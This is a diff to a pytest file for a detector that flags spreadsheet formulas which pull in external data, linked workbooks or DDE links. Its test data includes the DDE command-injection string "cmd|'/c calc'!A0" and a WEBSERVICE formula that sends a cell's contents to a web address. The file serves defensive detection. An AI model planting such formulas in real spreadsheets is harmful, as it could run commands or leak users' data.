@@ -30,7 +30,12 @@ def found(paths):
         ("cmd|'/c calc'!A0", {Live.DDE}),
         ("'Excel'|'a.xls'!R1C1", {Live.DDE}),
         ("cmd|'/c calc'!A0+[1]Sheet1!A1", {Live.DDE, Live.WORKBOOKS}),
+        ('_xlfn.WEBSERVICE("http://example.org/"&A1)', {Live.DATA}),
+        ('_xlfn.IMAGE("http://example.org")', {Live.DATA}),
+        ('1+RTD("server",,"topic")', {Live.DATA}),
+        ('CUBEVALUE("电量",A1)', {Live.DATA}),
         ('IF(A1="","",B1)', set()),
+        ('SUM(A1)&"RTD("&MYRTD(A1)', set()),
         ("表1[户数]+停电事件!B2", set()),
         ("SUM(表1[[#This Row],[户数]])", set()),
         ("SUM(表1[户数],'线路 1'!A1)", set()),
@@ -44,7 +49,7 @@ def test_what_a_formula_fetches(formula, kinds):
     assert of_formula(formula) == kinds
 
 
-@pytest.mark.parametrize("formula", ["'[a" * 400_000, "'[a]" * 300_000, "a|" * 500_000, "[a]a" * 300_000])
+@pytest.mark.parametrize("formula", ["'[a" * 400_000, "'[a]" * 300_000, "a|" * 500_000, "[a]a" * 300_000, "CUBE" * 300_000])
 def test_no_formula_takes_long(formula):
     assert of_formula(formula) == set()
 
